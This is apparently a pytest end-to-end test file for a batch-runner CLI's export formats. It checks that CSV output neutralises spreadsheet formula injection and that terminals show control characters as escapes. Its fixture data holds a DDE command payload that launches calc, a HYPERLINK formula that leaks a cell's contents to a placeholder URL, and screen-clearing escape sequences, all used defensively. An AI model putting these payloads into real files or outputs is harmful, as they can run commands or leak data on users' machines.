"""The flat exports as a user reads them: each format read back with its own reader (json, pyarrow, the csv
module) against the Batch export's answer and the submitted input, and the csv opened in a spreadsheet.

One job serves every test here: its lines carry text that breaks naive writers (quotes, line breaks, NUL,
characters beyond the BMP, a 100,000-character prompt) and answers a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from tests.conftest import Cli, run_args, start_mock

pytestmark = pytest.mark.e2e

# custom_id -> (input, the mock's answer, metadata.gold)
LINES: dict[str, tuple[str, str, str | None]] = {
    "quotes": ('he said "hi", then\r\nleft\ttab', 'a "q", b\nc\r\nd\x00e\u2028f', None),
    "astral": ("\U0001f600 \U0001d54f", "\U0001f600\U0001d54f \u00e9", "\U0001f600"),
    "long": ("x" * 100_000, "short answer", None),
    "=1+1": ('=HYPERLINK("http://example.invalid/?"&A1,"click")', "=cmd|' /C calc'!A0", "=1+2"),
    "plus": ("+1", "+SUM(1,2)", None),
    "minus": ("-2+3", "- first point\n- second point", "-5"),
    "at": ("@SUM(1)", "@SUM(A1)", None),
    "tab": ("\t=1", "\t=2", None),
    "cr": ("\r=1", "\r=2", None),
    "number": ("-12.5", "-42", "+7"),
}
# A line the mock fails for good (400): its row goes to --errors.
FAILED = "=failed"
# What a spreadsheet takes for a formula: a cell that starts with one of these (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Answered:
    cli: Cli
    job: str
    dir: Path

    def export(self, fmt: str, name: str) -> Path:
        r = self.cli("export", self.job, "--format", fmt, "-o", name)
        assert r.returncode == 0, r.stderr
        return self.dir / name


@pytest.fixture(scope="module")
def answered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Answered]:
    tmp = tmp_path_factory.mktemp("flat")
    src = tmp / "in.jsonl"
    with src.open("w", encoding="utf-8") as f:
        for cid, (text, answer, gold) in LINES.items():
            metadata = {"mock_outputs": json.dumps([answer])} | ({"gold": gold} if gold is not None else {})
            body = {"model": "gpt-4.1-mini", "input": text, "metadata": metadata}
            f.write(json.dumps({"custom_id": cid, "method": "POST", "url": "/v1/responses", "body": body}) + "\n")
        body = {"model": "gpt-4.1-mini", "input": "fail", "metadata": {"mock_error": "invalid_prompt"}}
        f.write(json.dumps({"custom_id": FAILED, "method": "POST", "url": "/v1/responses", "body": body}) + "\n")
    mock = start_mock()
    try:
        cli = Cli(tmp / "runner.db")
        job = cli.submit(src)
        r = cli("run", job, *run_args(mock, "--quiet"))
        assert r.returncode == 1, r.stderr  # the one scripted failure
        yield Answered(cli, job, tmp)
    finally:
        mock.stop()


def batch_answers(a: Answered) -> dict[str, str]:
    """Each line's answer as the Batch export carries it: the stored Response object's output_text."""
    rows = read_jsonl(a.export("batch", "b.jsonl"))
    return {r["custom_id"]: r["response"]["body"]["output_text"] for r in rows if r["custom_id"] != FAILED}


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    # One record per "\n": str.splitlines() would also split inside an answer holding U+2028, which JSON
    # leaves unescaped.
    return [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line]


def read_csv(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(sys.maxsize)  # the 100,000-character prompt is past the csv module's default limit
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_jsonl_flat_and_parquet_give_back_each_answer_and_input_exactly(answered: Answered) -> None:
    want = batch_answers(answered)
    assert want == {cid: answer for cid, (_, answer, _) in LINES.items()}
    flat = read_jsonl(answered.export("jsonl-flat", "f.jsonl"))
    parquet = pq.read_table(answered.export("parquet", "p.parquet")).to_pylist()
    for r in flat:  # parquet spreads the metadata over one column per key
        r["metadata.gold"] = r.pop("metadata").get("gold")
    for rows in (flat, parquet):
        assert [r["custom_id"] for r in rows] == [*LINES, FAILED]
        *answers, failed = rows
        assert (failed["status"], failed["output_text"]) == ("failed", None)
        assert [(r["input"], r["output_text"], r["metadata.gold"]) for r in answers] == list(LINES.values())


def test_csv_reads_back_exactly_except_formula_cells_which_get_a_quote(answered: Answered) -> None:
    rows = read_csv(answered.export("csv", "c.csv"))
    assert [r["custom_id"] for r in rows] == [("'" + c if c.startswith(FORMULA_START) else c) for c in [*LINES, FAILED]]
    assert rows.pop()["error"].startswith("invalid_prompt: ")

    def as_spreadsheet_text(value: str) -> str:
        # A plain number is data (a spreadsheet shows -42 as a number); anything else that starts like a
        # formula is written with a leading ' so the spreadsheet shows it as text instead of evaluating it.
        return "'" + value if value.startswith(FORMULA_START) and not is_number(value) else value

    for r, (text, answer, gold) in zip(rows, LINES.values(), strict=True):
        assert r["input"] == as_spreadsheet_text(text)
        assert r["output_text"] == as_spreadsheet_text(answer)
        assert r["metadata.gold"] == ("" if gold is None else as_spreadsheet_text(gold))
        assert r["status"] == "completed" and int(r["total_tokens"]) > 0  # numbers stay numbers
    # No cell in the file starts a formula: what a spreadsheet would run is quoted, numbers aside.
    with (answered.dir / "c.csv").open(newline="", encoding="utf-8") as f:
        for record in csv.reader(f):
            for cell in record:
                assert not cell.startswith(FORMULA_START) or is_number(cell), cell


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_with_errors_to_the_same_stdout_is_one_table(answered: Answered) -> None:
    # A user who wants everything on stdout, failures included, in one CSV for the next tool in the pipe.
    r = answered.cli("export", answered.job, "--format", "csv", "--errors", "-")
    assert r.returncode == 0, r.stderr
    csv.field_size_limit(sys.maxsize)
    records = list(csv.reader(io.StringIO(r.stdout, newline="")))
    assert [rec[0] for rec in records].count("custom_id") == 1, records[:2]  # one header, not one per destination
    assert records[0][:2] == ["custom_id", "line"]
    assert [rec[1] for rec in records[1:]] == [str(n) for n in range(1, len(LINES) + 2)]  # input order
    assert r.stderr.strip().splitlines()[-1] == f"exported {len(LINES)} lines of {answered.job} to stdout, 1 to stdout"


def test_export_and_report_with_stdout_closed_stop_as_on_a_closed_pipe(answered: Answered) -> None:
    # `runner export >&-` (a cron line, a daemon's child): nothing can be written, as into `| head -0`.
    # (`--version` ends 0 on a closed pipe too: it is answered before the CLI loads, with nothing to lose.)
    cases = [(["export", answered.job, "--format", "csv"], 141), (["report", answered.job], 141), (["--version"], 0)]
    for args, code in cases:
        r = subprocess.run(
            ["bash", "-c", 'exec "$@" >&-', "-", sys.executable, "-m", "runner", *args],
            capture_output=True,
            text=True,
            env=answered.cli.environ(),
            cwd=answered.dir,
            timeout=120,
        )
        assert (r.returncode, r.stderr) == (code, ""), args


def test_a_full_disk_is_one_line_naming_the_file(answered: Answered) -> None:
    # /dev/full takes no byte (ENOSPC), as a full disk or a spent quota would: this used to end with
    # "runner: OSError: [Errno 28] No space left on device", naming no file, exit 1 ("some requests failed").
    (answered.dir / "ok.jsonl").write_text("yesterday's results\n")
    cases = [
        (["export", answered.job, "-o", "/dev/full"], "/dev/full"),
        (
            ["export", answered.job, "--format", "csv", "-o", "ok.jsonl", "--errors", "/dev/full"],
            "ok.jsonl or /dev/full",
        ),
        (["report", answered.job, "--html", "/dev/full"], "/dev/full"),
    ]
    for args, named in cases:
        r = answered.cli(*args)
        assert r.returncode == 2, r.stderr
        assert r.stderr.strip().splitlines() == [f"runner: cannot write {named}: No space left on device"]
    assert (answered.dir / "ok.jsonl").read_text() == "yesterday's results\n"  # written whole or not at all


def on_a_terminal(a: Answered, *args: str) -> tuple[int, bytes]:
    """Run the CLI with stdout on a pseudo-terminal, as a user at a shell: its exit code and what it printed."""
    main, side = pty.openpty()
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "runner", *args],
            stdout=side,
            stderr=subprocess.DEVNULL,
            env=a.cli.environ(),
            cwd=a.dir,
        )
        os.close(side)
        shown = b""
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the process closed the terminal
                break
            if not chunk:
                break
            shown += chunk
        return proc.wait(timeout=60), shown
    finally:
        os.close(main)


def test_an_export_on_a_terminal_shows_control_characters_as_escapes(tmp_path: Path) -> None:
    # An answer that would clear the screen, retitle the terminal and start a C1 CSI: exported into a file it
    # is kept byte for byte; printed on a terminal it is shown, never obeyed (the README's promise for all text
    # that came from a server).
    answer = "a\x1b[2Jb\x1b]0;owned\x07c\u009b31m d\x7fe"
    src = tmp_path / "in.jsonl"
    body = {"model": "gpt-4.1-mini", "input": "hi", "metadata": {"mock_outputs": json.dumps([answer])}}
    src.write_text(json.dumps({"custom_id": "esc\x1b[2J", "method": "POST", "url": "/v1/responses", "body": body}))
    mock = start_mock()
    try:
        cli = Cli(tmp_path / "runner.db")
        job = cli.submit(src)
        assert cli("run", job, *run_args(mock, "--quiet")).returncode == 0
    finally:
        mock.stop()
    a = Answered(cli, job, tmp_path)
    assert read_csv(a.export("csv", "c.csv"))[0]["output_text"] == answer  # a file keeps every byte
    for fmt, to in [("batch", []), ("jsonl-flat", []), ("csv", []), ("csv", ["-o", "/dev/stdout"])]:
        code, shown = on_a_terminal(a, "export", job, "--format", fmt, *to)
        assert code == 0, shown
        assert re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]", shown) is None, (fmt, shown)
        if fmt == "csv":
            assert b"a\\x1b[2Jb\\x1b]0;owned\\x07c\\x9b31m d\\x7fe" in shown
        else:  # still JSON, and the same JSON: the escapes are JSON's own
            line = shown.decode().splitlines()[0]
            record = json.loads(line)
            text = record["response"]["body"]["output_text"] if fmt == "batch" else record["output_text"]
            assert text == answer


def test_a_cancelled_line_has_one_error_code_in_every_format(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "runner.db")
    src = tmp_path / "in.jsonl"
    body = {"model": "gpt-4.1-mini", "input": "never sent"}
    src.write_text(json.dumps({"custom_id": "c-1", "method": "POST", "url": "/v1/responses", "body": body}) + "\n")
    job = cli.submit(src)
    assert cli("cancel", job).returncode == 0
    a = Answered(cli, job, tmp_path)
    [batch] = read_jsonl(a.export("batch", "b.jsonl"))
    code, message = batch["error"]["code"], batch["error"]["message"]
    assert code == "batch_cancelled"  # as the README and the Batch API spell it
    [flat] = read_jsonl(a.export("jsonl-flat", "f.jsonl"))
    [row] = read_csv(a.export("csv", "c.csv"))
    assert flat["status"] == row["status"] == "cancelled"
    assert flat["error"] == row["error"] == f"{code}: {message}"


def test_a_file_named_for_another_format_gets_a_warning(answered: Answered) -> None:
    # `-o results.csv` without `--format csv` wrote JSON lines into it, silently: a spreadsheet then shows
    # JSON split at its commas, and pandas.read_parquet on `-o results.parquet` fails on "magic bytes".
    r = answered.cli("export", answered.job, "-o", "results.csv", "--errors", "errors.parquet")
    assert r.returncode == 0, r.stderr
    assert r.stderr.strip().splitlines() == [
        "warning: results.csv is named for csv, but --format batch wrote JSON lines into it (--format csv writes csv)",
        "warning: errors.parquet is named for parquet, but --format batch wrote JSON lines into it"
        " (--format parquet writes parquet)",
        f"exported {len(LINES)} lines of {answered.job} to results.csv, 1 to errors.parquet",
    ]
    assert json.loads((answered.dir / "results.csv").read_text().split("\n")[0])["custom_id"] == "quotes"
    r = answered.cli("export", answered.job, "--format", "csv", "-o", "rows.jsonl")
    assert r.stderr.strip().splitlines()[0] == (
        "warning: rows.jsonl is named for JSON lines, but --format csv wrote csv into it"
        " (--format batch or jsonl-flat writes JSON lines)"
    )
    for fmt, name in [("batch", "b.jsonl"), ("jsonl-flat", "f.json"), ("csv", "c.CSV"), ("csv", "out.txt")]:
        r = answered.cli("export", answered.job, "--format", fmt, "-o", name)
        assert "warning" not in r.stderr, (fmt, name)  # a name that agrees, or says nothing
